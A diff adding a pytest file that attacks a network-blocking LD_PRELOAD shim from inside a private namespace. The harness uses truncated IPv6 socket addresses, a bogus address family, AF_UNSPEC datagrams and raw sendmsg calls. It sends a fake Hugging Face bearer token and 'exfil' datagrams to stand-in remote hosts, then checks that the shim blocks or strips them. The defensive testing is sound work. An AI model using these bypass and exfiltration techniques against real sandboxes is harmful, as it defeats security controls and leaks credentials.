@@ -1,0 +1,249 @@
+"""test_fail_closed.py: ways around a rule, tried as an attacker would
+(issue 17): odd socket addresses, libc's own aliases, duplicated fds.
+Each attack runs inside a private network namespace whose loopback holds
+the "remote" addresses (10.9.9.9, fd00::1); a listener without the shim
+records what reached it. Under the offline rules and under a locked
+offline policy (/etc overlaid, as tests/test_system.py does) nothing may
+reach it and the log names the refusal; under the default rules the
+request is judged (an HF token to a non-Hub host is stripped)."""
+
+import json
+import textwrap
+
+import pytest
+
+from conftest import PY
+from sysroot import SysRoot
+
+TOKEN = "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"
+
+# Runs in the namespace: sets the addresses up, starts the listener (no
+# shim: LD_PRELOAD emptied for it), waits until it listens, runs the
+# attacker with the shim, then prints what the listener got.
+HARNESS = textwrap.dedent(r"""
+    set -e
+    ip link set lo up
+    ip addr add 10.9.9.9/32 dev lo
+    ip addr add fd00::1/128 dev lo nodad
+    env -u LD_PRELOAD "$PY" -c "$LISTENER" "$OUT" &
+    lpid=$!
+    for i in $(seq 100); do [ -e "$OUT.ready" ] && break; sleep 0.05; done
+    "$PY" -c "$ATTACK" "$@" || true
+    sleep 0.3
+    kill $lpid 2>/dev/null || true
+    wait $lpid 2>/dev/null || true
+    cat "$OUT"
+""")
+
+# Records every TCP byte and UDP datagram that arrives, one JSON line each.
+LISTENER = textwrap.dedent(r"""
+    import json, select, socket, sys, threading
+    out = open(sys.argv[1], "a", buffering=1)
+    def note(kind, data):
+        out.write(json.dumps({"kind": kind, "data": data.decode("latin-1")}) + "\n")
+    socks = []
+    for fam, addr in ((socket.AF_INET, ("10.9.9.9", 8080)), (socket.AF_INET6, ("fd00::1", 8080))):
+        s = socket.socket(fam); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(addr); s.listen()
+        socks.append(("tcp", s))
+    for fam, addr in ((socket.AF_INET, ("10.9.9.9", 5353)), (socket.AF_INET6, ("fd00::1", 5353))):
+        s = socket.socket(fam, socket.SOCK_DGRAM); s.bind(addr); socks.append(("udp", s))
+    open(sys.argv[1] + ".ready", "w").close()
+    def serve(c):
+        c.settimeout(2)
+        data = b""
+        try:
+            while b"\r\n\r\n" not in data:
+                k = c.recv(65536)
+                if not k: break
+                data += k
+        except OSError:
+            pass
+        note("tcp", data)
+        try: c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+        except OSError: pass
+        c.close()
+    while True:
+        r, _, _ = select.select([s for _, s in socks], [], [])
+        for kind, s in socks:
+            if s in r:
+                if kind == "tcp":
+                    threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
+                else:
+                    note("udp", s.recv(65536))
+""")
+
+# The attacks: one per argument, each prints one JSON line of what the
+# program saw.
+ATTACK = textwrap.dedent(r"""
+    import ctypes, errno, json, os, socket, struct, sys
+    libc = ctypes.CDLL(None, use_errno=True)
+    TOKEN = %r
+    REQ = ("GET /x HTTP/1.1\r\nHost: foreign.example\r\nAuthorization: Bearer %%s\r\n"
+           "Connection: close\r\n\r\n" %% TOKEN).encode()
+    def sin(fam, ip, port):
+        return struct.pack("<H", fam) + struct.pack("!H4s8x", port, socket.inet_aton(ip))
+    def sin6(ip, port, length):
+        return (struct.pack("<H", socket.AF_INET6) + struct.pack("!HI16sI", port, 0,
+                socket.inet_pton(socket.AF_INET6, ip), 0))[:length]
+    def call(fn, *args):
+        ctypes.set_errno(0)
+        rc = getattr(libc, fn)(*args)
+        return rc, errno.errorcode.get(ctypes.get_errno(), "0") if rc < 0 else "0"
+    def tcp_request(fam, fn, sa):
+        s = socket.socket(fam)
+        rc, err = call(fn, s.fileno(), sa, len(sa))
+        got = b""
+        s.settimeout(3)
+        if rc == 0:
+            try:
+                s.sendall(REQ)
+                while True:
+                    k = s.recv(4096)
+                    if not k: break
+                    got += k
+            except OSError as e:
+                got = repr(e).encode()
+        return {"rc": rc, "errno": err, "reply": got.decode("latin-1")[:40]}
+    def udp(fam, sockfam, sa, fn="sendto"):
+        s = socket.socket(sockfam, socket.SOCK_DGRAM)
+        if fn == "sendto":
+            rc, err = call("sendto", s.fileno(), b"exfil", 5, 0, sa, len(sa))
+        else:
+            class iovec(ctypes.Structure):
+                _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
+            class msghdr(ctypes.Structure):
+                _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)),
+                            ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
+                            ("flags", ctypes.c_int)]
+            iov = iovec(b"exfil", 5)
+            m = msghdr(sa, len(sa), ctypes.pointer(iov), 1, None, 0, 0)
+            rc, err = call("sendmsg", s.fileno(), ctypes.byref(m), 0)
+        return {"rc": rc, "errno": err}
+    def run(name):
+        if name == "sin6-24":
+            return tcp_request(socket.AF_INET6, "connect", sin6("fd00::1", 8080, 24))
+        if name == "sin6-28":
+            return tcp_request(socket.AF_INET6, "connect", sin6("fd00::1", 8080, 28))
+        if name == "sin6-20":
+            return tcp_request(socket.AF_INET6, "connect", sin6("fd00::1", 8080, 20))
+        if name == "family-99":
+            return tcp_request(socket.AF_INET, "connect", struct.pack("<H", 99) + sin(0, "10.9.9.9", 8080)[2:])
+        if name == "udp-unspec":
+            return udp(socket.AF_INET, socket.AF_INET, sin(socket.AF_UNSPEC, "10.9.9.9", 5353))
+        if name == "udp-unspec-msg":
+            return udp(socket.AF_INET, socket.AF_INET, sin(socket.AF_UNSPEC, "10.9.9.9", 5353), "sendmsg")
+        if name == "udp-inet":
+            return udp(socket.AF_INET, socket.AF_INET, sin(socket.AF_INET, "10.9.9.9", 5353))
+        if name == "udp6-sin6-24":
+            return udp(socket.AF_INET6, socket.AF_INET6, sin6("fd00::1", 5353, 24))
+        if name == "udp6-inet":
+            return udp(socket.AF_INET6, socket.AF_INET6, sin(socket.AF_INET, "10.9.9.9", 5353))
+        raise SystemExit("unknown attack " + name)
+    for name in sys.argv[1:]:
+        print(json.dumps({"attack": name, **run(name)}), flush=True)
+""") % TOKEN
+
+ATTACKS = ["sin6-24", "sin6-28", "sin6-20", "family-99", "udp-unspec", "udp-unspec-msg", "udp-inet",
+           "udp6-sin6-24", "udp6-inet"]
+
+
+def parse(stdout):
+    seen, got = {}, []
+    for line in stdout.splitlines():
+        if not line.startswith("{"):
+            continue
+        o = json.loads(line)
+        if "attack" in o:
+            seen[o["attack"]] = o
+        else:
+            got.append(o)
+    return seen, got
+
+
+def harness_env(env, out):
+    e = dict(env)
+    e.update({"PY": PY, "LISTENER": LISTENER, "ATTACK": ATTACK, "OUT": str(out)})
+    return e
+
+
+def attack(shim, netns, env, names, root=None):
+    """Runs the attacks in a fresh network namespace (and, with root, a
+    mount namespace whose /etc is overlaid): what the program saw and what
+    reached the listener."""
+    out = shim.tmp / f"listener-{shim._n}.jsonl"
+    argv = ["sh", "-c", HARNESS, "harness", *names]
+    if root is not None:
+        argv = root.cmd(argv)
+        env = root.env(env)
+    r = shim.run([*netns, *argv], env=harness_env(env, out), timeout=60)
+    assert not r.timed_out, r
+    seen, got = parse(r.stdout)
+    assert sorted(seen) == sorted(names), r
+    return r, seen, got
+
+
+@pytest.fixture
+def sysroot(tmp_path):
+    why = SysRoot.check()
+    if why:
+        pytest.fail(why)
+    return SysRoot(tmp_path)
+
+
+def locked_offline(shim, sysroot, log):
+    sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
+    sysroot.write("/etc/hfshim/rules.json", json.dumps({"version": 1, "locked": True, "offline": True,
+                                                        "log": {"destination": str(log)}}))
+    return shim.base_env({"HFSHIM_LOG": ""})
+
+
+def test_addresses_without_the_shim(shim, netns):
+    """The baseline the attacks rely on: the kernel takes a 24-byte
+    sockaddr_in6 and an AF_UNSPEC datagram address, refuses a short or
+    foreign one."""
+    r, seen, got = attack(shim, netns, shim.base_env(), ATTACKS)
+    assert seen["sin6-24"]["rc"] == 0 and seen["sin6-28"]["rc"] == 0, r
+    assert seen["sin6-20"]["errno"] == "EINVAL" and seen["family-99"]["errno"] == "EAFNOSUPPORT", r
+    assert all(seen[n]["rc"] == 5 for n in ("udp-unspec", "udp-unspec-msg", "udp-inet", "udp6-sin6-24", "udp6-inet"))
+    assert sum(1 for g in got if g["kind"] == "udp") == 5, got
+    assert sum(1 for g in got if g["kind"] == "tcp" and TOKEN in g["data"]) == 2, got
+
+
+@pytest.mark.parametrize("mode", ["offline", "locked"])
+def test_odd_addresses_refused_offline(shim, netns, sysroot, mode):
+    """Offline and under a locked offline policy: a 24-byte sockaddr_in6
+    is IPv6 (refused like the 28-byte one), an AF_UNSPEC datagram goes to
+    sin_addr (refused like AF_INET), addresses hfshim cannot read on an IP
+    socket are refused with a log line. Nothing reaches the listener."""
+    log = shim.tmp / "policy.log"
+    if mode == "locked":
+        r, seen, got = attack(shim, netns, locked_offline(shim, sysroot, log), ATTACKS, sysroot)
+        text = log.read_text()
+    else:
+        env = shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "offline.json")})
+        r, seen, got = attack(shim, netns, env, ATTACKS)
+        text = r.log
+    assert got == [], (got, r)
+    for n in ("sin6-24", "sin6-28"):
+        assert seen[n]["errno"] == "ECONNREFUSED", r
+    for n in ("udp-unspec", "udp-unspec-msg", "udp-inet", "udp6-sin6-24", "udp6-inet"):
+        assert seen[n]["errno"] == "ENETUNREACH", (n, r)
+    assert seen["sin6-20"]["errno"] == "EINVAL" and seen["family-99"]["errno"] == "EAFNOSUPPORT", r
+    assert text.count("blocked connect [fd00::1]:8080") == 2, text
+    assert text.count("blocked datagram 10.9.9.9:5353") == 4 and "blocked datagram [fd00::1]:5353" in text, text
+    assert "refused connect on fd" in text and "AF_INET6 address shorter than 24 bytes" in text, text
+    assert "address family that is not IP on an IP socket" in text, text
+
+
+def test_odd_addresses_judged_by_default_rules(shim, netns):
+    """Default rules: the 24-byte sockaddr_in6 connection is watched like
+    the 28-byte one (the HF token to this non-Hub host is stripped); the
+    AF_UNSPEC datagram is judged as the AF_INET one (allowed)."""
+    env = shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "default.json")})
+    r, seen, got = attack(shim, netns, env, ATTACKS)
+    assert seen["sin6-24"]["rc"] == 0 and seen["sin6-28"]["rc"] == 0, r
+    tcp = [g["data"] for g in got if g["kind"] == "tcp"]
+    assert len(tcp) == 2 and all("GET /x" in d and TOKEN not in d for d in tcp), (tcp, r)
+    assert r.log.count("stripped Authorization") == 2, r
+    assert seen["sin6-20"]["errno"] == "EINVAL" and seen["family-99"]["errno"] == "EAFNOSUPPORT", r
+    assert sum(1 for g in got if g["kind"] == "udp") == 5, got
